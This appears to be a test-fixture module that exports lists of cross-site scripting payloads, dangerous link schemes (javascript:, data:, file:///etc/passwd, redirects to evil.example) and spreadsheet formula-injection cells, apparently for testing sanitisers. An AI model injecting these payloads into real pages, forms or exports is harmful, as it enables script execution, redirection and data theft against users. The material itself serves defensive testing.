/** Payloads that attackers type into fields, each breaking out of its context in a different way. */

const WAYS_OUT = ['', '"', "'", '">', "'>", '</title>', '</textarea>', '</script>', '-->', '`>']
const ACTS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<details open ontoggle=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  ' autofocus onfocus=alert(1) x=',
  '<math><mi xlink:href="data:text/html,x">',
]
const ODD = [
  '<ScRiPt>alert(1)</sCrIpT>',
  '<<script>alert(1)//<</script>',
  '<script/x>alert(1)</script>',
  '<img/src/onerror=alert(1)>',
  '<!--<script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>*{background:url(https://evil.example)}</style>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)',
  '＜script＞alert(1)＜/script＞',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is literal
  '${alert(1)}',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<template><script>alert(1)</script></template>',
]

export const XSS = [...WAYS_OUT.flatMap((out) => ACTS.map((act) => out + act)), ...ODD]

export const BAD_LINKS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&colon;alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'blob:https://evil.example/x',
  'file:///etc/passwd',
  'http://evil.example/',
  'ftp://evil.example/',
  'mailto:x@evil.example',
  '//evil.example',
  '///evil.example',
  '/\\evil.example',
  '\\\\evil.example',
  'https:',
  'https://',
  'https:///x',
  'evil.example',
  '"onclick="alert(1)',
]

/** Cells that a spreadsheet would run as a formula. */
export const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '=HYPERLINK("https://evil.example")',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '\tx',
  '\rx',
  '=1+1, "Ato", 2\r\nand a second line',
]
